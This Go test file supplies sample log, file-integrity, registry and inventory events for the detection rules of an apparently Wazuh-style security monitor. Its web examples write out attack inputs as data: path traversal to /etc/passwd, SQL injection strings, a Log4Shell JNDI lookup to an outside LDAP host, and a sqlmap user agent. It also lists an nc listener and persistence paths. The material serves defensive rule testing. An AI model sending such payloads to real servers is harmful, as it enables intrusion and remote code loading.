package content_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"time"
)

// event is a message of an agent.
type event struct {
	queue         byte
	location, log string
	after         time.Duration // since the one before
}

// example holds events that fire a rule, and similar events that do not. Of
// several events the last one counts.
type example struct {
	rule          int
	fires, misses [][]event
}

// eg is an example of single events.
func eg(rule int, fires, misses []event) example {
	x := example{rule: rule}
	for _, e := range fires {
		x.fires = append(x.fires, []event{e})
	}
	for _, e := range misses {
		x.misses = append(x.misses, []event{e})
	}
	return x
}

// logs are lines of /var/log/auth.log and its like.
func logs(lines ...string) []event {
	var out []event
	for _, l := range lines {
		out = append(out, event{queue: '1', location: "/var/log/x.log", log: l, after: time.Second})
	}
	return out
}

// syslog puts the header of syslog before texts.
func syslog(name string, texts ...string) []event {
	for i, x := range texts {
		texts[i] = "Nov 22 00:58:01 web1 " + name + ": " + x
	}
	return logs(texts...)
}

// agent are messages of an agent's module.
func agent(queue byte, location string, messages ...string) []event {
	var out []event
	for _, m := range messages {
		out = append(out, event{queue: queue, location: location, log: m, after: time.Second})
	}
	return out
}

func times(n int, e []event) []event { return slices.Repeat(e, n) }

func slowly(each time.Duration, events []event) []event {
	events = slices.Clone(events)
	for i := range events {
		events[i].after = each
	}
	return events
}

func then(events ...[]event) []event { return slices.Concat(events...) }

// fimData is a change without its attributes.
type fimData struct {
	Path    string         `json:"path"`
	Mode    string         `json:"mode"`
	Type    string         `json:"type"`
	Version float64        `json:"version"`
	Index   string         `json:"index,omitempty"`
	Arch    string         `json:"arch,omitempty"`
	Value   string         `json:"value_name,omitempty"`
	Changed []string       `json:"changed_attributes,omitempty"`
	Now     map[string]any `json:"attributes"`
	Old     map[string]any `json:"old_attributes,omitempty"`
}

func fimMessage(d fimData) event {
	b, err := json.Marshal(map[string]any{"type": "event", "data": d})
	if err != nil {
		panic(err)
	}
	return event{queue: '8', location: "syscheck", log: string(b), after: time.Second}
}

// file are changes of files: `added /a`.
func file(changes ...string) []event {
	var out []event
	for _, c := range changes {
		change, path, _ := strings.Cut(c, " ")
		d := fimData{
			Path: path, Mode: "realtime", Type: change, Version: 2,
			Now: map[string]any{"type": "file", "size": 17, "perm": "rw-r--r--", "uid": "0", "hash_md5": "b", "mtime": 1795309000},
		}
		if change == "modified" {
			d.Changed = []string{"size", "md5"}
			d.Old = map[string]any{"type": "file", "size": 12, "perm": "rw-r--r--", "uid": "0", "hash_md5": "a", "mtime": 1795308000}
		}
		out = append(out, fimMessage(d))
	}
	return out
}

// fileChange is a modification with given changed attributes and rights.
func fileChange(path, permBefore, perm string, changed ...string) []event {
	return []event{fimMessage(fimData{
		Path: path, Mode: "realtime", Type: "modified", Version: 2, Changed: changed,
		Now: map[string]any{"type": "file", "perm": perm}, Old: map[string]any{"type": "file", "perm": permBefore},
	})}
}

// registry are changes of the registry: `added registry_key HKLM\A`; the name of
// values is Updater.
func registry(changes ...string) []event {
	var out []event
	for _, c := range changes {
		f := strings.SplitN(c, " ", 3)
		d := fimData{Path: f[2], Mode: "scheduled", Type: f[0], Version: 3, Index: "aa", Arch: "[x64]", Now: map[string]any{"type": f[1]}}
		if f[1] == "registry_value" {
			d.Value = "Updater"
			d.Now["value_type"] = "REG_SZ"
		}
		out = append(out, fimMessage(d))
	}
	return out
}

// agentlessOutput is the answer of a device without an agent to a check.
func agentlessOutput(check, output string) []event {
	return agent('2', "("+check+") audit@10.0.0.1->show running-config", "ossec: output: '"+check+"':\n"+output)
}

func rootcheck(texts ...string) []event { return agent('9', "rootcheck", texts...) }

// sca is a check with a result and, if not empty, the result before.
func sca(result, before string) []event {
	check := map[string]any{"id": 7, "title": "No root login over SSH", "compliance": map[string]string{"pci_dss": "2.2.4"}, "file": "/etc/ssh/sshd_config"}
	if result == "not applicable" {
		check["status"], check["reason"] = "Not applicable", "no such file"
	} else {
		check["result"] = result
	}
	if before != "" {
		check["previous_result"] = before
	}
	b, err := json.Marshal(map[string]any{"type": "check", "id": 1, "policy": "Base hardening", "policy_id": "base", "check": check})
	if err != nil {
		panic(err)
	}
	return agent('p', "sca", string(b))
}

func scaScore(scores ...string) []event {
	var out []event
	for _, s := range scores {
		out = append(out, agent('p', "sca", `{"type":"summary","scan_id":1,"name":"Base hardening","policy_id":"base","passed":3,"failed":5,"invalid":0,"total_checks":8,"score":`+s+`,"hash":"x"}`)...)
	}
	return out
}

func inventory(table, operation, row string) []event {
	return agent('d', "syscollector", `{"type":"dbsync_`+table+`","operation":"`+operation+`","data":{`+row+`,"checksum":"c"}}`)
}

// web are requests in the combined form: path, status, user agent.
func web(path, status, agent string) []event {
	return logs(fmt.Sprintf(`203.0.113.7 - - [22/Nov/2026:00:58:01 +0000] "GET %s HTTP/1.1" %s 512 "-" "%s"`, path, status, agent))
}

const browser = "Mozilla/5.0 (X11; Linux x86_64)"

func sshFailed(from string) []event {
	return syslog("sshd[4210]", "Failed password for bob from "+from+" port 38921 ssh2")
}

func sshUnknown(from string) []event {
	return syslog("sshd[4210]", "Failed password for invalid user oracle from "+from+" port 38921 ssh2")
}

func sshAccepted(from string) []event {
	return syslog("sshd[4210]", "Accepted password for bob from "+from+" port 38921 ssh2")
}

func sudo(command string) []event {
	return syslog("sudo", "     bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND="+command)
}

func suFailed() []event { return syslog("su", "FAILED SU (to root) bob on pts/0") }

func dropped(from string) []event {
	return syslog("kernel", "[ 12.5] DROP: IN=eth0 OUT= MAC=aa SRC="+from+" DST=10.1.0.9 LEN=40 TTL=64 PROTO=TCP SPT=4242 DPT=23 SYN")
}

var examples = []example{
	// sshd
	eg(900100, syslog("sshd[1]", "Received SIGHUP; restarting."), syslog("sshfs[1]", "Received SIGHUP; restarting.")),
	eg(900101, sshAccepted("203.0.113.7"), syslog("sshd[1]", "Postponed publickey for bob from 203.0.113.7 port 38921 ssh2")),
	eg(900102, sshFailed("203.0.113.7"), sshUnknown("203.0.113.7")),
	eg(900103, sshUnknown("203.0.113.7"), sshFailed("203.0.113.7")),
	eg(900104, syslog("sshd[1]", "Invalid user oracle from 203.0.113.7 port 38921"), syslog("sshd[1]", "input_userauth_request: invalid user oracle [preauth]")),
	eg(900105, syslog("sshd[1]", "error: maximum authentication attempts exceeded for bob from 203.0.113.7 port 38921 ssh2 [preauth]"),
		syslog("sshd[1]", "error: maximum sessions exceeded for bob")),
	eg(900106, syslog("sshd[1]", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=bob"),
		syslog("sshd[1]", "pam_unix(sshd:account): account bob has expired")),
	eg(900107, syslog("sshd[1]", "Did not receive identification string from 203.0.113.7 port 38921", "kex_exchange_identification: Connection closed by remote host"),
		syslog("sshd[1]", "Received disconnect from 203.0.113.7 port 38921:11: disconnected by user")),
	eg(900108, syslog("sshd[1]", "Unable to negotiate with 203.0.113.7 port 38921: no matching cipher found. Their offer: 3des-cbc [preauth]"),
		syslog("sshd[1]", "Unable to load host key: /etc/ssh/x")),
	eg(900109, syslog("sshd[1]", "reverse mapping checking getaddrinfo for x.example.org [203.0.113.7] failed - POSSIBLE BREAK-IN ATTEMPT!"),
		syslog("sshd[1]", "reverse mapping checking getaddrinfo for x.example.org [203.0.113.7] failed.")),
	eg(900110, syslog("sshd[1]", "pam_unix(sshd:session): session opened for user bob(uid=1000) by (uid=0)"),
		syslog("cron[1]", "pam_unix(cron:session): session opened for user bob by (uid=0)")),
	eg(900111, syslog("sshd[1]", "pam_unix(sshd:session): session closed for user bob"), syslog("sshd[1]", "Connection closed by 203.0.113.7 port 38921")),
	{900120, [][]event{times(8, sshFailed("203.0.113.7"))}, [][]event{
		times(7, sshFailed("203.0.113.7")), then(times(7, sshFailed("203.0.113.7")), sshFailed("203.0.113.8")),
		slowly(20*time.Second, times(8, sshFailed("203.0.113.7"))),
	}},
	{900121, [][]event{times(8, sshUnknown("203.0.113.7"))}, [][]event{times(7, sshUnknown("203.0.113.7")), then(times(7, sshUnknown("203.0.113.7")), sshUnknown("203.0.113.8"))}},
	{900122, [][]event{then(times(8, sshFailed("203.0.113.7")), sshAccepted("203.0.113.7"))}, [][]event{
		then(times(7, sshFailed("203.0.113.7")), sshAccepted("203.0.113.7")), then(times(8, sshFailed("203.0.113.7")), sshAccepted("203.0.113.8")),
	}},

	// sudo, su, PAM
	eg(900200, syslog("sudo", "bob : a password is required"), syslog("sudoedit", "bob : a password is required")),
	{900201, [][]event{times(2, sudo("/usr/bin/id"))}, [][]event{sudo("/usr/bin/id"), syslog("sudo", "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ;")}},
	eg(900202, syslog("sudo", "bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id"),
		syslog("sudo", "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/echo NOT in sudoers")),
	eg(900203, syslog("sudo", "bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id"),
		syslog("sudo", "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/echo incorrect password attempt")),
	eg(900204, syslog("sudo", "pam_unix(sudo:auth): authentication failure; logname=bob uid=1000 euid=0 tty=/dev/pts/0 ruser=bob rhost=  user=bob"),
		syslog("sudo", "pam_unix(sudo:auth): conversation failed")),
	eg(900205, syslog("sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by bob(uid=1000)"), syslog("sudo", "pam_unix(sudo:session): session closed for user root")),
	eg(900220, syslog("su", "pam_unix(su:session): session closed for user root"), syslog("sudo", "pam_unix(sudo:session): session closed for user root")),
	eg(900221, suFailed(), syslog("su", "(to root) bob on pts/0")),
	eg(900222, syslog("su", "(to root) bob on pts/0"), suFailed()),
	{900223, [][]event{times(5, suFailed())}, [][]event{times(4, suFailed()), slowly(40*time.Second, times(5, suFailed()))}},
	eg(900240, syslog("cron[7]", "pam_unix(cron:session): session closed for user root"), syslog("cron[7]", "(root) CMD (run-parts /etc/cron.hourly)")),
	eg(900241, syslog("login[7]", "pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=/dev/tty1 ruser= rhost=  user=bob"),
		syslog("login[7]", "pam_unix(login:session): session opened for user bob by LOGIN(uid=0)")),
	eg(900242, syslog("login[7]", "pam_unix(login:session): session opened for user bob by LOGIN(uid=0)"), syslog("cron[7]", "pam_unix(cron:session): session opened for user root by (uid=0)")),
	eg(900243, syslog("cron[7]", "pam_unix(cron:session): session opened for user root by (uid=0)"), syslog("login[7]", "pam_unix(login:session): session opened for user bob by LOGIN(uid=0)")),
	eg(900244, syslog("passwd[7]", "pam_unix(passwd:chauthtok): password changed for bob"), syslog("passwd[7]", "pam_unix(passwd:chauthtok): user bob does not exist")),

	// systemd, packet filter
	eg(900300, syslog("systemd[1]", "Started Daily apt upgrade and clean activities."), syslog("systemd-logind[1]", "New session 4 of user bob.")),
	eg(900301, syslog("systemd[1]", "Failed to start The nginx web server."), syslog("systemd[1]", "Starting The nginx web server...")),
	eg(900302, syslog("systemd[1]", "nginx.service: Main process exited, code=exited, status=1/FAILURE", "nginx.service: Failed with result 'exit-code'."),
		syslog("systemd[1]", "nginx.service: Consumed 1.2s CPU time.")),
	eg(900320, syslog("kernel", "[ 12.5] IN=eth0 OUT= SRC=203.0.113.7 DST=10.1.0.9 LEN=40 PROTO=TCP SPT=4242 DPT=23"), syslog("kernel", "[ 12.5] eth0: link up")),
	eg(900321, dropped("203.0.113.7"), syslog("kernel", "[ 12.5] ACCEPT: IN=eth0 OUT= SRC=203.0.113.7 DST=10.1.0.9 LEN=40 PROTO=TCP SPT=4242 DPT=23")),
	{900322, [][]event{times(18, dropped("203.0.113.7"))}, [][]event{times(17, dropped("203.0.113.7")), slowly(5*time.Second, times(18, dropped("203.0.113.7")))}},

	// web
	eg(900400, web("/index.html", "200", browser), logs(`203.0.113.7 - - [22/Nov/2026] "GET / HTTP/1.1" 200 5`)),
	eg(900401, web("/nothing", "404", browser), web("/nothing", "304", browser)),
	eg(900402, web("/api", "502", browser), web("/api", "204", browser)),
	eg(900403, then(web("/get?f=../../../etc/hosts", "200", browser), web("/get?f=/etc/passwd", "403", browser)), web("/a/../b", "200", browser)),
	eg(900404, then(web("/p?id=1+UNION+SELECT+1,2", "200", browser), web("/p?id=1%27+or+%271%27=%271", "500", browser)), web("/student-union/select-committee", "200", browser)),
	eg(900405, web("/?x=${jndi:ldap://203.0.113.9/a}", "404", browser), web("/docs/jndi", "404", browser)),
	eg(900406, web("/", "200", "sqlmap/1.7"), web("/", "200", "sqlmapper-docs-bot")),
	{900410, [][]event{times(14, web("/nothing", "404", browser))}, [][]event{times(13, web("/nothing", "404", browser)), slowly(10*time.Second, times(14, web("/nothing", "404", browser)))}},

	// agents
	eg(900500, logs("ossec: Agent buffer: 'normal'."), logs("ossec: agent buffer: 'normal'.")),
	eg(900501, logs("ossec: Agent started: 'web1->any'."), logs("ossec: Agent stopped: 'web1->any'.")),
	eg(900502, logs("wazuh: Agent disconnected: 'web1-any'."), logs("wazuh: Agent started: 'web1-any'.")),
	eg(900503, logs("ossec: Agent stopped: 'web1->any'."), logs("ossec: Agent started: 'web1->any'.")),
	eg(900504, logs("ossec: Agent removed: 'web1->any'."), logs("ossec: Agent started: 'web1->any'.")),
	eg(900505, logs("wazuh: Agent buffer: '90%'.", "wazuh: Agent buffer: 'full'."), logs("wazuh: Agent buffer: '9%'.")),
	eg(900506,
		agent('1', "vedette-ingest", "vedette: Agent key already in use: 'web1->any', connected at gw2 from 192.0.2.7.", "vedette: Agent key already in use: 'web1->10.0.0.0', connected at gw-2.example from 2001:db8::7."),
		agent('1', "vedette-ingest", "vedette: Agent key in use: 'web1->any', connected at gw2 from 192.0.2.7.", "ossec: Agent started: 'web1->any'.")),
	eg(900510, agentlessOutput("routers", "hostname r1"), logs("ossec: output: 'netstat':\nhostname r1")),
	{900511,
		[][]event{then(agentlessOutput("routers", "hostname r1"), agentlessOutput("routers", "hostname r2"))},
		[][]event{
			then(agentlessOutput("routers", "hostname r1"), agentlessOutput("routers", "hostname r1")),
			then(agentlessOutput("routers", "hostname r1"), agentlessOutput("switches", "hostname r2")),
			then(logs("ossec: output: 'netstat':\n1"), logs("ossec: output: 'netstat':\n2")),
		}},

	// file integrity
	eg(900600, file("added /srv/x"), file("modified /srv/x", "added /etc/passwd")),
	eg(900601, file("modified /srv/x"), file("added /srv/x", "modified /etc/shadow")),
	eg(900602, file("deleted /srv/x"), file("modified /srv/x", "deleted /etc/sudoers.d/ops")),
	eg(900603, then(fileChange("/srv/x", "rw-r--r--", "rw-r--r--", "mtime"), fileChange("/srv/x", "rw-r--r--", "rw-r--r--", "mtime", "inode")),
		then(fileChange("/srv/x", "rw-r--r--", "rw-r--r--", "mtime", "md5"), fileChange("/etc/passwd", "rw-r--r--", "rw-r--r--", "mtime"))),
	eg(900610, file("modified /etc/passwd", "modified /etc/shadow", "deleted /etc/group"), file("modified /etc/passwd-", "modified /srv/etc/passwd")),
	eg(900611, file("modified /etc/sudoers", "added /etc/sudoers.d/ops", "deleted /usr/local/etc/sudoers"), file("added /etc/sudoers.d/a/b", "modified /etc/sudoers.bak")),
	eg(900612, file("modified /root/.ssh/authorized_keys", `added C:\ProgramData\ssh\administrators_authorized_keys`),
		file("deleted /root/.ssh/authorized_keys", "modified /root/.ssh/known_hosts", "added /root/.ssh/authorized_keys.bak")),
	eg(900613, file("modified /etc/ssh/sshd_config", "added /etc/pam.d/su", "deleted /etc/ssh/sshd_config.d/10.conf"), file("modified /etc/ssh/ssh_config")),
	eg(900614, file("added /var/www/html/up/x.php", `modified C:\inetpub\wwwroot\a.aspx`), file("deleted /var/www/html/x.php", "added /var/www/html/x.txt", "added /home/bob/x.php")),
	eg(900615, file("modified /var/www/html/index.html", "deleted /usr/share/nginx/html/app.js"), file("added /var/www/html/index.html", "modified /srv/index.html")),
	eg(900616, file("added /etc/ld.so.preload"), file("deleted /etc/ld.so.preload", "modified /etc/ld.so.cache")),
	eg(900617, file("modified /etc/crontab", "added /etc/cron.d/x", "added /var/spool/cron/crontabs/bob"), file("deleted /etc/cron.d/x", "added /etc/cron.d/a/b")),
	eg(900618, file("added /etc/systemd/system/x.service", "modified /etc/rc.local", "added /etc/systemd/system/x.service.d/o.conf"), file("deleted /etc/systemd/system/x.service", "added /etc/systemd/system/README")),
	eg(900619, then(fileChange("/tmp/sh", "rwxr-xr-x", "rwsr-xr-x", "permission"), fileChange("/tmp/sh", "rwxr-xr-x", "rwxr-sr-x", "permission")),
		then(fileChange("/tmp/sh", "rwsr-xr-x", "rwsr-xr-x", "md5"), fileChange("/tmp/sh", "rwsr-xr-x", "rwxr-xr-x", "permission"), fileChange("/tmp/sh", "rwxr-xr-x", "rwxr-xr-t", "permission"))),
	eg(900620, file("modified /home/bob/plan.docx", `deleted C:\Users\bob\Documents\plan.PDF`), file("added /home/bob/plan.docx", "modified /home/bob/.bashrc")),
	{900621, [][]event{times(30, file("modified /home/bob/plan.docx"))}, [][]event{
		times(29, file("modified /home/bob/plan.docx")), slowly(3*time.Second, times(30, file("modified /home/bob/plan.docx"))), times(30, file("added /home/bob/plan.docx")),
	}},
	eg(900630, registry(`added registry_key HKEY_LOCAL_MACHINE\SOFTWARE\A`), registry(`added registry_value HKEY_LOCAL_MACHINE\SOFTWARE\A`)),
	eg(900631, registry(`modified registry_key HKEY_LOCAL_MACHINE\SOFTWARE\A`), registry(`added registry_key HKEY_LOCAL_MACHINE\SOFTWARE\A`)),
	eg(900632, registry(`deleted registry_key HKEY_LOCAL_MACHINE\SOFTWARE\A`), registry(`modified registry_key HKEY_LOCAL_MACHINE\SOFTWARE\A`)),
	eg(900633, registry(`added registry_value HKEY_LOCAL_MACHINE\SOFTWARE\A`), registry(`added registry_value HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`)),
	eg(900634, registry(`modified registry_value HKEY_LOCAL_MACHINE\SOFTWARE\A`), registry(`deleted registry_value HKEY_LOCAL_MACHINE\SOFTWARE\A`)),
	eg(900635, registry(`deleted registry_value HKEY_LOCAL_MACHINE\SOFTWARE\A`), registry(`deleted registry_key HKEY_LOCAL_MACHINE\SOFTWARE\A`)),
	eg(900636, registry(`added registry_value HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`,
		`modified registry_value HKEY_LOCAL_MACHINE\Software\Microsoft\Windows NT\CurrentVersion\Winlogon`),
		registry(`deleted registry_value HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, `added registry_value HKEY_LOCAL_MACHINE\SOFTWARE\Run`)),

	// rootkit detector
	eg(900640, rootcheck("File '/dev/.x' present on /dev. Possible hidden file."), rootcheck("Starting rootcheck scan.")),
	eg(900641, rootcheck("Starting rootcheck scan.", "Ending rootcheck scan."), rootcheck("No rootcheck scan yet.")),
	eg(900642, rootcheck("Trojaned version of file '/usr/bin/diff' detected. Signature used: 'x' (Generic)."), rootcheck("File '/usr/bin/diff': Trojaned version of file ?")),
	eg(900643, rootcheck("Rootkit 'Omega' detected by the presence of file '/dev/chr'.", "Process '77' hidden from /proc. Possible kernel level rootkit.", "Port '31337'(tcp) hidden. Kernel-level rootkit or trojaned version of netstat. Possible kernel level rootkit"),
		rootcheck("Rootkit scan could not read '/dev/chr'.")),
	eg(900644, rootcheck("System Audit: Empty password {PCI_DSS: 2.2}. File: /etc/x. Reference: y .", "Windows Audit: Null sessions allowed."), rootcheck("Audit: none.")),
	eg(900645, rootcheck("File '/tmp/x' is owned by root and has written permissions to anyone."), rootcheck("File '/tmp/x' is owned by bob and has written permissions to anyone.")),

	// configuration checks
	eg(900650, sca("pending", ""), logs(`{"type":"check","id":1}`)),
	eg(900651, scaScore("50", "99"), then(scaScore("49"), sca("passed", ""))),
	eg(900652, scaScore("49", "7", "33.5"), scaScore("50", "100")),
	eg(900653, sca("failed", ""), then(sca("passed", ""), sca("failed", "passed"))),
	eg(900654, then(sca("passed", ""), sca("not applicable", "")), sca("failed", "")),
	eg(900655, sca("failed", "passed"), then(sca("failed", "not applicable"), sca("passed", "passed"))),
	eg(900656, then(sca("passed", "failed"), sca("not applicable", "failed")), then(sca("passed", ""), sca("passed", "not applicable"))),

	// inventory
	eg(900660, inventory("hotfixes", "INSERTED", `"hotfix":"KB1"`), logs(`{"type":"dbsync_hotfixes"}`)),
	eg(900661, inventory("packages", "INSERTED", `"name":"curl","version":"8"`), inventory("packages", "MODIFIED", `"name":"curl","version":"8"`)),
	eg(900662, inventory("packages", "DELETED", `"name":"curl","version":"8"`), inventory("hotfixes", "DELETED", `"hotfix":"KB1"`)),
	eg(900663, inventory("packages", "INSERTED", `"name":"nmap","version":"7"`), then(inventory("packages", "INSERTED", `"name":"nmap-common","version":"7"`), inventory("packages", "DELETED", `"name":"nmap","version":"7"`))),
	eg(900664, inventory("ports", "INSERTED", `"protocol":"tcp","local_ip":"0.0.0.0","local_port":4444,"state":"listening","process":"nc"`),
		then(inventory("ports", "INSERTED", `"protocol":"tcp","local_ip":"127.0.0.1","local_port":4444,"state":"listening"`),
			inventory("ports", "INSERTED", `"protocol":"tcp","local_ip":"10.1.0.9","local_port":4444,"state":"established"`),
			inventory("ports", "DELETED", `"protocol":"tcp","local_ip":"0.0.0.0","local_port":4444,"state":"listening"`))),
	eg(900665, inventory("users", "INSERTED", `"user_name":"bob","user_id":1000`), inventory("users", "MODIFIED", `"user_name":"bob","user_id":1000`)),
	eg(900666, inventory("users", "INSERTED", `"user_name":"bob","user_id":0`), then(inventory("users", "INSERTED", `"user_name":"root","user_id":0`), inventory("users", "INSERTED", `"user_name":"bob","user_id":10`))),

	// JSON
	eg(900900, logs(`{"level":"info","msg":"started"}`), logs(`["level"]`)),
	eg(900901, logs(`{"level":"ERROR","msg":"no connection"}`, `{"level":"fatal","message":"x"}`), logs(`{"level":"errors","msg":"x"}`, `{"lvl":"error"}`)),
	eg(900902, logs(`{"event":{"category":["authentication"],"outcome":"failure"},"user":{"name":"bob"}}`),
		logs(`{"event":{"category":["authentication"],"outcome":"success"}}`, `{"event":{"category":["network"],"outcome":"failure"}}`)),
}
